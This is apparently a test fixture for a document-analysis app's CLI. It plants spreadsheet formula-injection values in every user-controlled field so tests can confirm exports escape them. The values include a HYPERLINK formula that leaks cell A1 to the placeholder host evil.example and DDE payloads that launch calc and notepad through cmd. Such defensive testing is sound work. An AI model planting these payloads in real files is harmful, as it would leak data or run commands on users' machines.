import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { createClaim } from '../../../electron/core/claims';
import { addDocument } from '../../../electron/core/documents';
import { createDomain } from '../../../electron/core/domains';
import { createProject, type Project, setMeta } from '../../../electron/core/project';
import { REPO_ROOT } from '../helpers';

// Values a spreadsheet would run as formulas (OWASP's list: = + - @ tab CR, and a full-width "="), put into every
// field an analyst or an imported document controls.
export const HOSTILE = {
  title: '=HYPERLINK("http://evil.example/?leak="&A1,"Open report")',
  source: '+cmd|" /C calc"!A0',
  published: '-2+3',
  parent: '@SUM(1+1)*cmd|" /C calc"!A0',
  domain: '=1+1',
  fullWidth: '＝1+1',
  note: '\r=cmd|" /C notepad"!A0',
  actor: '-1+1',
  analyst: '@analyst',
};

/** Text in which two quotes start with characters a spreadsheet would evaluate: `=` and a tab. */
export const HOSTILE_TEXT =
  '=HYPERLINK("http://evil.example","click") said the minister.\n\t+tabbed claim follows.';

export interface HostileFixture {
  project: Project;
  dir: string;
  file: string;
  docId: number;
  quotes: string[];
}

export function hostileProject(): HostileFixture {
  // Not the helpers' tempDir: that one is removed after each test, and this project serves a whole file.
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'dossier-hostile-'));
  const file = path.join(dir, 'Hostile.dossier');
  const project = createProject(file, 'empty');
  const db = project.db;
  setMeta(db, 'analyst', HOSTILE.analyst);
  const parent = createDomain(db, { name: HOSTILE.parent });
  const domain = createDomain(db, { name: HOSTILE.domain, parentId: parent });
  const wide = createDomain(db, { name: HOSTILE.fullWidth });
  const docId = addDocument(db, {
    title: HOSTILE.title,
    text: HOSTILE_TEXT,
    format: 'txt',
    source: HOSTILE.source,
    published: HOSTILE.published,
  }).id;
  const quotes = [
    HOSTILE_TEXT.slice(0, HOSTILE_TEXT.indexOf(' said')),
    HOSTILE_TEXT.slice(HOSTILE_TEXT.indexOf('\t')),
  ];
  for (const quote of quotes) {
    const start = HOSTILE_TEXT.indexOf(quote);
    createClaim(db, {
      docId,
      start,
      end: start + quote.length,
      domainIds: [domain, wide],
      note: HOSTILE.note,
      actor: HOSTILE.actor,
      analyst: HOSTILE.analyst,
    });
  }
  return { project, dir, file, docId, quotes };
}

/** What a spreadsheet must see instead of a hostile value: the same text behind an apostrophe. */
export const neutralised = (v: string): string => `'${v}`;

const BIN = path.join(REPO_ROOT, 'bin', 'dossier.mjs');

/** Runs the CLI in a child process (the real door), as the other CLI tests do. */
export function dossier(...args: string[]): { code: number; stdout: string; stderr: string } {
  const r = spawnSync(process.execPath, [BIN, ...args], {
    encoding: 'utf8',
    env: { ...process.env, NO_COLOR: '1' },
  });
  return { code: r.status ?? -1, stdout: r.stdout, stderr: r.stderr };
}
